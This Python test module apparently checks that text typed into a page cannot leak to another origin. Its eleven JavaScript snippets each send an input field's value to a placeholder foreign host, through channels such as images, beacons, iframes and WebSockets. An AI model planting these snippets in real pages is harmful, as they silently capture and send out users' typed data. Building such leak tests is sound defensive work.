"""With nobody there, what is typed leaves for no other site in any of the ways in which pages read; own parts come."""

from typing import Final

from tests.hostile.minds import always, named
from tests.hostile.stage import GOAL_PATH, Case, Limits, Person

_TYPED: Final = "三角商会の見積8431207"
_CODED: Final = "encodeURIComponent(q.value)"
WAYS: Final = {
    "a picture": f"new Image().src='{{other port}}/x?'+{_CODED}",
    "css url()": f"document.body.style.background='url({{other port}}/x?'+{_CODED}+')'",
    "an event source": f"window.e=new EventSource('{{other port}}/x?'+{_CODED})",
    "a prefetch link": f"document.head.append(Object.assign(document.createElement('link'),{{rel:'prefetch',href:'{{other port}}/x?'+{_CODED}}}))",
    "a script": f"document.head.append(Object.assign(document.createElement('script'),{{src:'{{other port}}/x?'+{_CODED}}}))",
    "audio": f"new Audio('{{other port}}/x?'+{_CODED}).play().catch(()=>0)",
    "a frame": f"document.body.append(Object.assign(document.createElement('iframe'),{{src:'{{other port}}/x?'+{_CODED}}}))",
    "a beacon": f"navigator.sendBeacon('{{other port}}/ping?'+{_CODED})",
    "ping=": f"l.ping='{{other port}}/x?'+{_CODED};l.click()",
    "a web socket": f"window.s=new WebSocket('{{other port}}/x?'.replace('http','ws')+{_CODED})",
    "a socket of a worker": f"window.w=new Worker(window.URL.createObjectURL(new Blob([`new WebSocket('{{other port}}/x?'.replace('http','ws')+'`+{_CODED}+`')`])))",
}  # fmt: skip
_PAGE: Final = '<title>検索</title><h1>検索</h1><a id=l href=#a></a><label>検索語<input id=q oninput="{0}"></label>'
_SHORT: Final = Limits(max_steps=2, max_attempts=2, step_timeout_s=60.0)


def alone_cases() -> list[Case]:
    """Return every way, with nobody there."""
    return [_case(f"typed words by {name}, nobody there", js) for name, js in WAYS.items()]


def honest_alone() -> Case:
    """Return a page whose parts are its own site's."""
    return _case("own parts, nobody there", f"new Image().src='{{own}}{GOAL_PATH}'")


def _case(name: str, js: str) -> Case:
    return Case(
        name=name, html=_PAGE.replace("{0}", js), mind=always("fill", named("検索語"), _TYPED),
        person=Person.ABSENT, goal=f"検索語に「{_TYPED}」を入れる", limits=_SHORT,
        is_reached=lambda _: True,
    )  # fmt: skip
